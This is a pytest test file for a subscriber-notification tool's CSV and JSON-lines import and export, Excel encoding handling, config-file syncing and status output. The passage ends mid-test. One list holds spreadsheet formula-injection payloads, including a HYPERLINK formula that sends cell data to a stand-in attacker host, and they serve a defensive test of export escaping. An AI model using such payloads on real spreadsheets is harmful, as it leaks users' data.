"""Many subscribers at once: `notifier subscribers import/export` (CSV, JSON lines), and the config
file's [[subscribers]] applied when the file changes instead of at every start."""
import csv
import io
import json
import os

import pytest

from notifier.context import open_context

ROWS = [
    {"address": "ada@example.org", "profiles": ["kv cache, MoE", "speculative decoding"], "name": "Ada",
     "timezone": "Europe/Berlin", "time": "06:45", "frequency": "weekly", "weekday": "tue", "max_items": 5,
     "threshold": 0.3, "active": True},
    {"address": "#llm-papers", "profiles": ["agents"]},
]


def listed(cli, *args) -> list[dict]:
    code, out, err = cli(*args, "subscribers", "--all", "--json")
    assert code == 0, err
    return [json.loads(line) for line in out.split("\n") if line]     # not splitlines: a value may hold U+2028


def essentials(rows: list[dict]) -> list[tuple]:
    return [(r["address"], r["profiles"], r["timezone"], r["time"], r["frequency"], r["weekday"],
             r["max_items"], r["threshold"], r["active"]) for r in rows]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_export_then_import_into_another_database_gives_the_same_subscribers(cli, tmp_path, monkeypatch, fmt):
    for row in ROWS:
        (tmp_path / "in.jsonl").write_text(json.dumps(row) + "\n", encoding="utf-8")
        assert cli("subscribers", "import", str(tmp_path / "in.jsonl"))[0] == 0
    assert cli("unsubscribe", "#llm-papers")[0] == 0
    before = listed(cli)
    path = tmp_path / f"all.{fmt}"
    assert cli("subscribers", "export", str(path), "--all") == (0, "", f"exported 2 subscribers to {path}\n")
    monkeypatch.setenv("NOTIFIER_DATABASE_URL", f"sqlite:///{tmp_path / 'other.sqlite'}")
    code, out, err = cli("subscribers", "import", str(path))
    assert (code, out) == (0, f"imported {path}: 2 added, 0 updated, 0 unchanged\n"), err
    after = listed(cli)
    assert essentials(after) == essentials(before)
    assert after[1]["active"] is False and after[0]["profiles"] == ["kv cache, MoE", "speculative decoding"]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_export_to_standard_output_piped_into_import_from_standard_input_gives_the_same_subscribers(
        cli, tmp_path, monkeypatch, fmt):
    monkeypatch.chdir(tmp_path)                # "-" was taken for a file name here
    (tmp_path / "in.jsonl").write_text("\n".join(json.dumps(r) for r in ROWS) + "\n", encoding="utf-8")
    assert cli("subscribers", "import", str(tmp_path / "in.jsonl"))[0] == 0
    before = listed(cli)
    code, exported, _ = cli("subscribers", "export", "-", "--format", fmt)
    assert code == 0
    monkeypatch.setenv("NOTIFIER_DATABASE_URL", f"sqlite:///{tmp_path / 'other.sqlite'}")
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(exported.encode())))
    assert cli("subscribers", "import", "-", "--format", fmt) == (
        0, "imported standard input: 2 added, 0 updated, 0 unchanged\n", "")
    assert essentials(listed(cli)) == essentials(before)


def test_a_bad_line_on_standard_input_is_named_as_a_line_of_standard_input(cli, monkeypatch):
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"address,profiles\nada,agents\n")))
    assert cli("subscribers", "import", "-", "--format", "csv") == (
        1, "", "notifier: error: standard input: line 2: 'ada' is neither an e-mail address nor a Slack target "
               "(#channel, channel id C…, user id U… or @U…, https://hooks.slack.com/… or webhook:ENV_NAME)\n"
               "standard input: nothing imported (1 bad line)\n")


def test_import_from_standard_input_that_is_a_terminal_is_refused_not_waited_for(cli, capsys, monkeypatch):
    """It waited, saying nothing, for a person to type CSV."""
    main, terminal = os.openpty()
    os.write(main, b"\x04")         # Ctrl-D typed already: a read ends (so this test cannot wait either)
    with os.fdopen(terminal) as stdin, pytest.raises(SystemExit) as exit_:
        monkeypatch.setattr("sys.stdin", stdin)
        cli("subscribers", "import", "-", "--format", "csv")
    os.close(main)
    assert exit_.value.code == 2
    assert capsys.readouterr().err.splitlines()[-1] == ("notifier subscribers: error: import - reads standard input, "
                                                        "a terminal here: pipe a file in (< team.csv) or name the file")


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_unicode_line_separator_inside_a_value_survives_export_and_import(cli, tmp_path, monkeypatch, fmt):
    """U+2028 is no line end in either format (str.splitlines took it for one and cut the row)."""
    assert cli("subscribe", "ada@example.org", "-k", "kv\u2028cache", "--name", "Ada\u2028Lovelace")[0] == 0
    before = listed(cli)
    path = tmp_path / f"all.{fmt}"
    assert cli("subscribers", "export", str(path))[0] == 0
    monkeypatch.setenv("NOTIFIER_DATABASE_URL", f"sqlite:///{tmp_path / 'other.sqlite'}")
    code, out, err = cli("subscribers", "import", str(path))
    assert (code, err) == (0, "")
    assert [(r["name"], r["profiles"]) for r in listed(cli)] == [(r["name"], r["profiles"]) for r in before]


NAMES_A_SPREADSHEET_RUNS = ['=HYPERLINK("https://evil.example/?"&A1,"Ada")', "+1+1", "-2", "@SUM(A1:A9)",
                            "'=quoted already", "''+twice"]


def test_csv_export_starts_cells_a_spreadsheet_would_run_with_a_quote_and_import_takes_it_off(cli, tmp_path,
                                                                                             monkeypatch):
    for i, name in enumerate(NAMES_A_SPREADSHEET_RUNS + ["'Tis Ada"]):
        assert cli("subscribe", f"u{i}@example.org", "--keywords=-diffusion, kv cache", "--name", name)[0] == 0
    before = listed(cli)
    path = tmp_path / "team.csv"
    assert cli("subscribers", "export", str(path))[0] == 0
    with path.open(encoding="utf-8-sig", newline="") as fh:
        cells = list(csv.DictReader(fh))
    assert [c["name"] for c in cells] == ["'" + n for n in NAMES_A_SPREADSHEET_RUNS] + ["'Tis Ada"]
    assert {c["profiles"] for c in cells} == {"'-diffusion, kv cache"}
    monkeypatch.setenv("NOTIFIER_DATABASE_URL", f"sqlite:///{tmp_path / 'other.sqlite'}")
    assert cli("subscribers", "import", str(path))[0] == 0
    assert [(r["name"], r["profiles"]) for r in listed(cli)] == [(r["name"], r["profiles"]) for r in before]


def test_a_csv_written_by_hand_keeps_its_leading_minus_and_apostrophe(cli, tmp_path):
    path = tmp_path / "team.csv"
    path.write_text("address,name,profiles\nada@example.org,'Tis Ada,\"-diffusion, kv cache\nagents\"\n",
                    encoding="utf-8")
    assert cli("subscribers", "import", str(path))[0] == 0
    assert [(r["name"], r["profiles"]) for r in listed(cli)] == [("'Tis Ada", ["-diffusion, kv cache", "agents"])]


def test_a_csv_file_export_starts_with_the_byte_order_mark_excel_needs_and_standard_output_does_not(cli, tmp_path):
    assert cli("subscribe", "zoe@example.org", "-k", "agents", "--name", "Zoë")[0] == 0
    for fmt in ("csv", "jsonl"):
        assert cli("subscribers", "export", str(tmp_path / f"team.{fmt}"))[0] == 0
    assert (tmp_path / "team.csv").read_bytes().startswith("\ufeffid,name,".encode())
    assert (tmp_path / "team.jsonl").read_bytes().startswith(b'{"id": 1, "name": "Zo\xc3\xab"')
    assert cli("subscribers", "export", "--format", "csv")[1].startswith("id,name,")


def test_an_export_interrupted_by_ctrl_c_leaves_the_older_file_and_no_temporary_one(cli, tmp_path, monkeypatch):
    """A Ctrl-C while the rows were written left a hidden .notifier-* file of addresses behind."""
    from notifier import subscriber_files

    for i in range(3):
        assert cli("subscribe", f"u{i}@example.org", "-k", "agents")[0] == 0
    path = tmp_path / "team.csv"
    path.write_text("the older export")
    rows_written = []

    def interrupted(text):
        rows_written.append(text)
        if len(rows_written) == 20:
            raise KeyboardInterrupt
        return text
    monkeypatch.setattr(subscriber_files, "_guarded", interrupted)
    assert cli("subscribers", "export", str(path)) == (130, "", "notifier: interrupted\n")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    assert path.read_text() == "the older export"


def test_csv_written_by_hand_is_imported_with_defaults(cli, tmp_path):
    path = tmp_path / "team.csv"
    path.write_text("address,profiles,max_items,active\n"
                    "bob@example.org,\"diffusion\nvideo generation\",7,yes\n"
                    "#vision,segmentation,,\n", encoding="utf-8")
    assert cli("subscribers", "import", str(path))[0] == 0
    rows = listed(cli)
    assert [(r["address"], r["profiles"], r["max_items"], r["time"], r["active"], r["origin"]) for r in rows] == [
        ("bob@example.org", ["diffusion", "video generation"], 7, "07:30", True, "cli"),
        ("#vision", ["segmentation"], None, "07:30", True, "cli")]


@pytest.mark.parametrize("sep", [";", "\t"], ids=["semicolons", "tabs"])
def test_csv_saved_by_excel_with_semicolons_or_tabs_bom_and_crlf_is_imported(cli, tmp_path, sep):
    rows = [["name", "address", "profiles", "max_items", "active"],
            ["Zoë Müller", "zoe@example.org", '"kv cache, MoE\r\nauthor:""José Núñez"""', "7", "TRUE"],
            ["", "#vision", "segmentation", "", ""]]
    path = tmp_path / "team.csv"
    path.write_bytes("\r\n".join(sep.join(r) for r in rows).encode("utf-8-sig") + b"\r\n")
    assert cli("subscribers", "import", str(path)) == (0, f"imported {path}: 2 added, 0 updated, 0 unchanged\n", "")
    assert [(r["name"], r["address"], r["profiles"], r["max_items"], r["active"]) for r in listed(cli)] == [
        ("Zoë Müller", "zoe@example.org", ["kv cache, MoE", 'author:"José Núñez"'], 7, True),
        ("#vision", "#vision", ["segmentation"], None, True)]


def test_a_csv_saved_by_excel_on_windows_in_windows_1252_is_imported_and_said_so(cli, tmp_path):
    path = tmp_path / "team.csv"
    path.write_bytes("name;address;profiles\r\nZoë Müller;zoe@example.org;“kv cache”, MoE\r\n".encode("cp1252"))
    assert cli("subscribers", "import", str(path)) == (
        0, f"imported {path}: 1 added, 0 updated, 0 unchanged\n",
        f'{path}: not UTF-8, so read as Windows-1252 (Excel\'s "CSV"); if a name looks wrong, save the file as '
        '"CSV UTF-8" and import it again\n')
    assert [(r["name"], r["profiles"]) for r in listed(cli)] == [("Zoë Müller", ["“kv cache”, MoE"])]


def test_a_tab_separated_file_saved_by_excel_as_unicode_text_is_imported(cli, tmp_path):
    path = tmp_path / "team.csv"
    path.write_bytes("name\taddress\tprofiles\r\nŁukasz 李\tlukasz@example.org\tagents\r\n".encode("utf-16"))
    assert cli("subscribers", "import", str(path)) == (0, f"imported {path}: 1 added, 0 updated, 0 unchanged\n", "")
    assert [r["name"] for r in listed(cli)] == ["Łukasz 李"]


def test_a_file_neither_utf8_nor_windows_1252_is_one_line_naming_the_line_and_what_to_do(cli, tmp_path):
    path = tmp_path / "team.csv"
    path.write_bytes(b"address,profiles\nada@example.org,agents\nbob@example.org,x\x81y\n")
    assert cli("subscribers", "import", str(path)) == (1, "", (
        f'notifier: error: {path}: line 3: neither UTF-8 nor Windows-1252 (byte 0x81): save it as UTF-8 '
        '(Excel: "CSV UTF-8") and import it again\n'))
    assert listed(cli) == []


@pytest.mark.parametrize("name", ["team.xlsx", "team.csv"], ids=["workbook", "workbook-renamed-csv"])
def test_an_excel_workbook_given_for_import_is_one_line_asking_for_csv(cli, tmp_path, name):
    import zipfile

    path = tmp_path / name
    with zipfile.ZipFile(path, "w") as book:          # an .xlsx is a zip of XML parts
        book.writestr("xl/worksheets/sheet1.xml", "<worksheet><sheetData/></worksheet>")
    assert cli("subscribers", "import", str(path)) == (1, "", (
        f'notifier: error: {path}: a spreadsheet workbook, not CSV: use a .csv file, which spreadsheets open and save '
        '(Excel: "CSV UTF-8")\n'))


@pytest.mark.parametrize("sep", [",", ";"])
def test_empty_columns_excel_saves_right_of_the_table_are_ignored_and_a_value_in_one_is_named(cli, tmp_path, sep):
    path = tmp_path / "team.csv"
    path.write_bytes(sep.join(["address", "profiles", "", ""]).encode() + b"\r\n"
                     + sep.join(["ada@example.org", "agents", "", ""]).encode() + b"\r\n")
    assert cli("subscribers", "import", str(path))[0] == 0
    assert [r["address"] for r in listed(cli)] == ["ada@example.org"]
    path.write_bytes(path.read_bytes() + sep.join(["bob@example.org", "agents", "", "note"]).encode() + b"\r\n")
    assert cli("subscribers", "import", str(path))[2] == (
        f"notifier: error: {path}: line 3: 'note' is in a column without a name in the header\n"
        f"{path}: nothing imported (1 bad line)\n")


def test_a_threshold_with_a_decimal_comma_as_excel_writes_it_in_a_semicolon_csv_is_read(cli, tmp_path):
    path = tmp_path / "team.csv"
    path.write_text("address;profiles;threshold\nzoe@example.org;agents;0,3\n", encoding="utf-8")
    assert cli("subscribers", "import", str(path))[0] == 0
    assert [r["threshold"] for r in listed(cli)] == [0.3]


def test_a_time_without_its_leading_zero_as_excel_saves_it_is_read_as_that_time(cli, tmp_path):
    path = tmp_path / "team.csv"
    path.write_text("address,profiles,time\nzoe@example.org,agents,7:30\nyan@example.org,agents,17:05\n")
    assert cli("subscribers", "import", str(path))[0] == 0
    assert sorted(r["time"] for r in listed(cli)) == ["07:30", "17:05"]


@pytest.mark.parametrize("sep", [",", ";"])
def test_csv_written_by_hand_with_spaces_around_the_separators_is_imported(cli, tmp_path, sep):
    path = tmp_path / "team.csv"
    path.write_text(f"address{sep} profiles{sep} timezone\nada@example.org{sep} agents{sep} Europe/Berlin\n"
                    f'bob@example.org {sep}  "kv cache, MoE"{sep} UTC \n', encoding="utf-8")
    assert cli("subscribers", "import", str(path))[0] == 0
    assert [(r["address"], r["profiles"], r["timezone"]) for r in listed(cli)] == [
        ("ada@example.org", ["agents"], "Europe/Berlin"), ("bob@example.org", ["kv cache, MoE"], "UTC")]


def test_csv_column_names_typed_in_capitals_or_with_spaces_are_read(cli, tmp_path):
    path = tmp_path / "team.csv"
    path.write_text("Name; Address ;PROFILES\nZoë;zoe@example.org;agents\n", encoding="utf-8")
    assert cli("subscribers", "import", str(path))[0] == 0
    assert [(r["name"], r["address"], r["profiles"]) for r in listed(cli)] == [("Zoë", "zoe@example.org", ["agents"])]


@pytest.mark.parametrize("header, message", [
    ("address,profiles,address", "column 'address' is there twice: keep one"),
    ("name,profiles", "no 'address' column: every row needs one"),
    ("address,name", "no 'profiles' column: every row needs one"),
    ("address,profiles,E-mail", "unknown column 'E-mail' (columns: id, name, address, channel, profiles, timezone, "
                                "time, frequency, weekday, max_items, threshold, active, origin, paused)"),
    ("Email,profiles", "unknown column 'Email': did you mean 'address'? (the config file's [[subscribers]] say 'Email')"),
    ("address,keywords", "unknown column 'keywords': did you mean 'profiles'? (the config file's [[subscribers]] say "
                         "'keywords')"),
], ids=["column-twice", "no-address", "no-profiles", "unknown", "config_files_email", "config_files_keywords"])
def test_a_csv_header_missing_or_repeating_a_column_is_one_line_about_line_1(cli, tmp_path, header, message):
    """A column named twice took the last one's cells; a missing one made every row an error. A
    header written with the config file's keys (email, keywords) got the list of columns."""
    path = tmp_path / "team.csv"
    path.write_text(header + "\n" + "\n".join(f"u{i}@example.org,agents,x@example.org" for i in range(30)) + "\n")
    assert cli("subscribers", "import", str(path)) == (
        1, "", f"notifier: error: {path}: line 1: {message}\n{path}: nothing imported (1 bad line)\n")
    assert listed(cli) == []


def test_importing_thousands_of_subscribers_takes_a_few_kilobytes_a_row(cli, tmp_path):
    """Peak memory a row of a 3,000-row file, imported and imported again (all updated): 5.9 and
    7.3 KB when every row was a Subscriber object (3 KB each), every stored one was loaded as one
    and the file was held as a list of rows and in io.StringIO (4 bytes a character); 2.2 and 1.8 KB
    now. 100,000 rows (max RSS of the command): 591 -> 199 MB, imported again 716 -> 201 MB."""
    import tracemalloc

    rows = [{"address": f"u{i}@example.org", "profiles": ['"kv cache", mixture of experts', f"agents{i}"],
             "name": f"User {i}", "timezone": "Europe/Berlin"} for i in range(3000)]
    path = tmp_path / "many.jsonl"
    path.write_text(json.dumps(rows[0]) + "\n")
    assert cli("subscribers", "import", str(path))[0] == 0      # modules loaded, database made: not counted
    peaks = []
    for threshold in (0.4, 0.3):
        path.write_text("".join(json.dumps(r | {"threshold": threshold}) + "\n" for r in rows))
        tracemalloc.start()
        try:
            assert cli("subscribers", "import", str(path))[0] == 0
            peaks.append(tracemalloc.get_traced_memory()[1] / len(rows))
        finally:
            tracemalloc.stop()
    assert max(peaks) < 3500, peaks


def test_importing_the_same_file_again_counts_its_rows_unchanged_not_updated(cli, tmp_path):
    path = tmp_path / "in.jsonl"
    path.write_text("\n".join(json.dumps(r) for r in ROWS) + "\n")
    assert cli("subscribers", "import", str(path))[0] == 0
    before = listed(cli)
    assert cli("subscribers", "import", str(path))[1] == f"imported {path}: 0 added, 0 updated, 2 unchanged\n"
    assert listed(cli) == before


def test_importing_again_updates_existing_subscribers_instead_of_failing(cli, tmp_path):
    assert cli("subscribe", "ada@example.org", "-k", "old profile")[0] == 0
    path = tmp_path / "in.jsonl"
    path.write_text("\n".join(json.dumps(r) for r in ROWS) + "\n")
    assert cli("subscribers", "import", str(path))[1] == f"imported {path}: 1 added, 1 updated, 0 unchanged\n"
    assert listed(cli)[0]["profiles"] == ["kv cache, MoE", "speculative decoding"]


def test_a_file_with_bad_lines_imports_nothing_and_names_every_bad_line(cli, tmp_path):
    path = tmp_path / "in.jsonl"
    path.write_text("\n".join([
        json.dumps({"address": "ok@example.org", "profiles": ["agents"]}),
        json.dumps({"address": "not an address", "profiles": ["agents"]}),
        "{broken",
        "",
        json.dumps({"address": "ok@example.org", "profiles": ["again"]}),
        json.dumps({"address": "t@example.org", "profiles": ["x"], "time": "25:00", "max_items": "many"}),
        json.dumps({"address": "u@example.org", "profiles": ["x"], "colour": "blue"}),
    ]) + "\n")
    code, _, err = cli("subscribers", "import", str(path))
    lines = err.splitlines()
    assert code == 1
    assert lines[0].startswith(f"notifier: error: {path}: line 2: 'not an address' is neither")
    assert lines[1:] == [
        f"{path}: line 3: not valid JSON (Expecting property name enclosed in double quotes)",
        f"{path}: line 5: 'ok@example.org' is also on line 1",
        f"{path}: line 6: 'max_items' must be a whole number, not \"many\"",
        f"{path}: line 7: unknown column 'colour' (columns: id, name, address, channel, profiles, timezone, "
        "time, frequency, weekday, max_items, threshold, active, origin, paused)",
        f"{path}: nothing imported (5 bad lines)"]
    assert listed(cli) == []


def test_csv_errors_name_the_line_a_record_starts_on_and_long_lists_are_capped(cli, tmp_path):
    path = tmp_path / "in.csv"
    rows = ["address,profiles", 'a@example.org,"two\nlines"'] + [f"bad{i},x" for i in range(25)]
    path.write_text("\n".join(rows) + "\n")
    code, _, err = cli("subscribers", "import", str(path))
    lines = err.splitlines()
    assert code == 1 and f"{path}: line 4: 'bad0' is neither" in lines[0]
    assert len(lines) == 22 and lines[-2:] == [f"{path}: ... and 5 more bad lines",
                                               f"{path}: nothing imported (25 bad lines)"]
    assert listed(cli) == []


def test_import_does_not_override_a_subscriber_the_config_file_declares(cli, tmp_path):
    config = tmp_path / "c.toml"
    config.write_text("[[subscribers]]\nemail = 'ada@example.org'\nkeywords = 'from the file'\n")
    path = tmp_path / "in.jsonl"
    path.write_text(json.dumps(ROWS[0]) + "\n")
    code, _, err = cli("--config", str(config), "subscribers", "import", str(path))
    assert code == 1 and err.splitlines()[0] == (
        f"notifier: error: {path}: line 1: 'ada@example.org' is declared in the config file; change it there")
    assert listed(cli, "--config", str(config))[0]["profiles"] == ["from the file"]


def test_a_full_export_imports_back_leaving_alone_the_subscribers_the_config_file_declares(cli, tmp_path):
    """The README's backup, `export --all` then `import`, was refused ("nothing imported") as soon
    as the config file declared one subscriber: each of their rows "is declared in the config file"."""
    config = tmp_path / "c.toml"
    config.write_text("[[subscribers]]\nemail = 'ada@example.org'\nkeywords = 'from the file'\n")
    cli("--config", str(config), "subscribe", "bob@example.org", "-k", "mamba")
    cli("--config", str(config), "edit", "bob@example.org", "--pause")
    backup = tmp_path / "backup.csv"
    assert cli("--config", str(config), "subscribers", "export", str(backup), "--all")[0] == 0
    assert cli("--config", str(config), "subscribers", "import", str(backup)) == (
        0, f"imported {backup}: 0 added, 0 updated, 2 unchanged\n", "")


@pytest.mark.parametrize("argv", [["export", "--all", "{file}"], ["--all", "export", "{file}"],
                                  ["export", "{file}", "--all"]], ids=["file_after_flag", "flag_first", "file_first"])
def test_export_takes_its_file_before_or_after_its_flags(cli, tmp_path, argv):
    """`notifier subscribers export --all team.csv` said "notifier: error: unrecognized arguments: team.csv"."""
    cli("subscribe", "ada@example.org", "-k", "mamba")
    cli("unsubscribe", "ada@example.org")
    target = tmp_path / "team.csv"
    assert cli("subscribers", *[word.format(file=target) for word in argv]) == (
        0, "", f"exported 1 subscriber to {target}\n")


def test_file_of_unknown_format_is_one_line_error(cli, tmp_path):
    path = tmp_path / "subs.txt"
    path.write_text("x")
    assert cli("subscribers", "import", str(path))[2] == (
        f"notifier: error: {path}: cannot tell the format from the name; name it .csv or .jsonl, or give --format\n")


# ----------------------------------------------------------------------------- config subscribers
def config_with(tmp_path, keywords: str):
    from notifier.config import load_config

    path = tmp_path / "c.toml"
    path.write_text("".join(f"[[subscribers]]\nemail = 'user{i}@example.org'\nkeywords = '{keywords}'\n"
                            for i in range(3)))
    return load_config(path)


def stored(config) -> dict[str, tuple]:
    with open_context(config) as ctx:
        return {s.address: (json.loads(s.profile), s.updated_at) for s in ctx.store.list_subscribers()}


def test_config_subscribers_are_written_when_the_file_changes_not_at_every_start(tmp_path, db_url):
    config = config_with(tmp_path, "agents")
    config.database.url = db_url
    first = stored(config)
    assert stored(config) == first                       # same file: nothing rewritten
    config = config_with(tmp_path, "robotics")
    config.database.url = db_url
    changed = stored(config)
    assert {p[0][0] for p in changed.values()} == {"robotics"} and len(changed) == 3


def test_a_config_subscriber_edited_on_the_command_line_gets_the_file_back_at_the_next_start(cli, tmp_path):
    config = tmp_path / "c.toml"
    config.write_text("[[subscribers]]\nemail = 'ada@example.org'\nkeywords = 'from the file'\n")
    assert listed(cli, "--config", str(config))[0]["profiles"] == ["from the file"]
    code, out, _ = cli("--config", str(config), "edit", "ada@example.org", "-k", "edited on the cli")
    assert code == 0 and "the file wins at the next start" in out
    assert listed(cli, "--config", str(config))[0]["profiles"] == ["from the file"]


def test_a_note_on_changing_a_config_subscriber_names_the_file_or_says_it_was_not_read_here(cli, tmp_path):
    """Without --config the note read "is declared in ; the file wins", and bringing back someone
    the file declares said nothing of the file."""
    config = tmp_path / "c.toml"
    config.write_text("[[subscribers]]\nemail = 'ada@example.org'\nkeywords = 'from the file'\n")
    listed(cli, "--config", str(config))
    assert cli("edit", "ada@example.org", "--time", "09:00")[1].splitlines()[0] == (
        "note: ada@example.org is declared in a configuration file not read here (--config); "
        "the file wins at the next start")
    cli("--config", str(config), "unsubscribe", "ada@example.org")
    assert cli("--config", str(config), "subscribe", "ada@example.org", "-k", "typed")[1].splitlines()[0] == (
        f"note: ada@example.org is declared in {config}; the file wins at the next start")


# ----------------------------------------------------------------------------- status at scale
def deliveries_for(db_url: str, n: int, sent_days: dict[int, str]) -> None:
    from notifier.store import Store
    from notifier.subscribers import new_subscriber, written

    store = Store(db_url)
    store.upsert_subscribers([written(new_subscriber(address=f"u{i}@example.org", keywords=["agents"]))
                              for i in range(n)], [])
    subs = store.list_subscribers()
    for i, day in sent_days.items():
        d = store.plan_delivery(subscriber_id=subs[i].id, digest_day=day, items=[], meta={"empty_note": True})
        store.record(d.id, "sent")
    store.close()


def test_status_names_each_subscribers_last_digest(cli, db_url):
    deliveries_for(db_url, 2, {0: "2026-07-01"})
    code, out, _ = cli("status")
    lines = out.splitlines()
    assert code == 0
    assert lines[lines.index("Subscribers:") + 1].startswith("  u0@example.org               last sent: ")
    assert lines[lines.index("Subscribers:") + 1].endswith(" (2026-07-01)")
    assert lines[lines.index("Subscribers:") + 2] == "  u1@example.org               last sent: never"


def test_status_names_a_subscriber_whose_stored_profile_no_longer_parses_and_asks_for_attention(cli, db_url):
    from notifier.store import Store

    deliveries_for(db_url, 2, {})
    store = Store(db_url)
    store.update_subscriber(store.list_subscribers()[1].id, profile=json.dumps(["agents", "+-moe"]))
    store.close()
    code, out, _ = cli("status")
    assert code == 3
    [line] = [ln for ln in out.splitlines() if "UNREADABLE" in ln]
    assert line.startswith("  u1@example.org: PROFILE UNREADABLE") and "'+-moe'" in line


def test_status_names_every_active_subscriber_sharing_an_unreadable_profile_and_no_paused_one(cli, db_url):
    from notifier.store import Store

    deliveries_for(db_url, 4, {})
    store = Store(db_url)
    u0, u1, u2, u3 = store.list_subscribers()
    for sub in (u0, u2, u3):                # the same stored text: one verdict, every holder named
        store.update_subscriber(sub.id, profile=json.dumps(["agents", "+-moe"]))
    store.update_subscriber(u3.id, paused=True)
    store.close()
    code, out, _ = cli("status")
    assert code == 3
    assert [ln.split(":")[0] for ln in out.splitlines() if "UNREADABLE" in ln] == ["  u0@example.org", "  u2@example.org"]


def test_status_names_the_address_of_an_unsent_digest_of_a_paused_subscriber_and_counts_an_unsubscribed_ones(cli, db_url):
    from notifier.store import Store

    deliveries_for(db_url, 3, {})
    store = Store(db_url)
    u0, u1, u2 = store.list_subscribers()
    for sub in (u0, u1):
        d = store.plan_delivery(subscriber_id=sub.id, digest_day="2026-07-01", items=[], meta={"empty_note": True})
        store.record(d.id, "failed", error="550 no such user")
    store.update_subscriber(u0.id, paused=True)
    store.update_subscriber(u1.id, active=False)
    store.close()
    code, out, _ = cli("status")
    deliveries = out.splitlines()[out.splitlines().index("Deliveries:") + 1:]
    assert code == 3 and deliveries == [
        "  1 not delivered (failed, or of unknown outcome) to subscribers who unsubscribed since: nothing more is sent to them",
        "  failed   u0@example.org 2026-07-01 (attempts 0): 550 no such user"]


def test_status_summarises_thousands_of_subscribers_by_day_of_their_last_digest(cli, db_url):
    days = ["2026-07-01", "2026-07-02", "2026-07-03", "2026-07-04", "2026-07-05", "2026-07-06", "2026-07-07"]
    deliveries_for(db_url, 60, {i: days[i % 7] for i in range(56)})
    code, out, _ = cli("status")
    start = out.splitlines().index("Subscribers:")
    assert out.splitlines()[start + 1:start + 9] == [
        "  60 active; their latest digest sent was for (digest day: subscribers)",
        "    2026-07-07: 8", "    2026-07-06: 8", "    2026-07-05: 8", "    2026-07-04: 8", "    2026-07-03: 8",
        "    before 2026-07-03: 16", "    never: 4"]


def test_subscribers_table_shows_the_first_two_hundred_and_says_how_to_get_the_rest(cli, db_url):
    deliveries_for(db_url, 203, {})
    code, out, _ = cli("subscribers")
    assert code == 0 and "u199@example.org" in out and "u200@example.org" not in out
    assert out.splitlines()[-1] == "... and 3 more (203 in all): `notifier subscribers export FILE` writes every one"


def test_a_list_after_everyone_unsubscribed_says_so_not_no_subscribers_yet(cli):
    """'no subscribers yet: add one' read as if their rows, and the way to bring them back, were gone."""
    assert cli("subscribers")[1] == "no subscribers yet: add one with `notifier subscribe ADDRESS --keywords TEXT`\n"
    cli("subscribe", "ada@example.org", "-k", "mamba")
    cli("unsubscribe", "ada@example.org")
    assert cli("subscribers") == (0, "no active subscribers (1 unsubscribed: `notifier subscribers --all` lists them)\n", "")
    assert "ada@example.org" in cli("subscribers", "--all")[1]


def test_a_subscribers_table_read_only_in_part_by_head_exits_0_as_every_command_does(db_url, tmp_path):
    """rich exited 1 when its reader stopped early: `notifier subscribers | head` failed under pipefail."""
    import os
    import subprocess
    import sys

    deliveries_for(db_url, 203, {})
    env = {**os.environ, "NOTIFIER_DATABASE_URL": db_url, "NOTIFIER_STATE_DIR": str(tmp_path)}
    proc = subprocess.Popen([sys.executable, "-m", "notifier", "subscribers"], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, env=env)
    assert proc.stdout.readline().startswith("┏".encode())
    proc.stdout.close()                                     # as head does after its lines
    assert (proc.wait(timeout=60), proc.stderr.read()) == (0, b"")


def test_a_terminal_that_is_not_utf8_gets_an_export_in_utf8_and_a_table_without_a_traceback(cli, db_url, tmp_path):
    import os
    import subprocess
    import sys

    assert cli("subscribe", "li@example.org", "-k", "agents", "--name", "李雷")[0] == 0
    env = {**os.environ, "NOTIFIER_DATABASE_URL": db_url, "NOTIFIER_STATE_DIR": str(tmp_path),
           "PYTHONIOENCODING": "ascii"}
    export, table = (subprocess.run([sys.executable, "-m", "notifier", "subscribers", *args], capture_output=True,
                                    env=env) for args in (["export"], []))
    assert (export.returncode, export.stderr) == (0, b"") and json.loads(export.stdout)["name"] == "李雷"
    assert (table.returncode, table.stderr) == (0, b"") and b"| ??" in table.stdout


def test_subscribers_table_shows_the_paused_marked_and_the_unsubscribed_only_with_all(cli, db_url):
    from notifier.store import Store

    deliveries_for(db_url, 203, {})
    store = Store(db_url)
    subs = store.list_subscribers()
    store.update_subscriber(subs[0].id, active=False)
    store.update_subscriber(subs[1].id, paused=True)
    store.close()
    _, out, _ = cli("subscribers")
    assert "│ u0@example.org " not in out and "│ u1@example.org (paused) " in out and "│ u200@example.org " in out
    assert out.splitlines()[-1] == "... and 2 more (202 in all): `notifier subscribers export FILE` writes every one"
    _, out, _ = cli("subscribers", "--all")
    assert "│ u0@example.org (off) " in out and "│ u200@example.org " not in out
    assert out.splitlines()[-1] == "... and 3 more (203 in all): `notifier subscribers export FILE` writes every one"


def test_export_keeps_the_paused_and_says_how_many_who_unsubscribed_it_left_out(cli, tmp_path):
    """To standard output it said nothing: a backup taken with `> backup.jsonl` left them out unsaid."""
    for address in ("ada@example.org", "bob@example.org", "cyd@example.org"):
        assert cli("subscribe", address, "-k", "agents")[0] == 0
    assert cli("edit", "bob@example.org", "--pause")[0] == 0
    assert cli("unsubscribe", "cyd@example.org")[0] == 0
    path = tmp_path / "team.jsonl"
    assert cli("subscribers", "export", str(path)) == (
        0, "", f"exported 2 subscribers to {path} (1 who unsubscribed left out: --all adds them)\n")
    assert [(r["address"], r["paused"]) for r in map(json.loads, path.read_text().splitlines())] == [
        ("ada@example.org", False), ("bob@example.org", True)]
    assert cli("subscribers", "export", str(path), "--all")[2] == f"exported 3 subscribers to {path}\n"
    code, out, err = cli("subscribers", "export")          # `notifier subscribers export > backup.jsonl`
    assert (code, len(out.splitlines()), err) == (
        0, 2, "exported 2 subscribers to standard output (1 who unsubscribed left out: --all adds them)\n")
    assert cli("subscribers", "--json")[2] == ""           # a listing, no export


def test_restoring_an_old_export_keeps_those_who_unsubscribed_since_unsubscribed_and_counts_them(cli, tmp_path):
    for address in ("ada@example.org", "bob@example.org", "cyd@example.org"):
        assert cli("subscribe", address, "-k", "agents")[0] == 0
    path = tmp_path / "last-month.csv"
    assert cli("subscribers", "export", str(path))[0] == 0
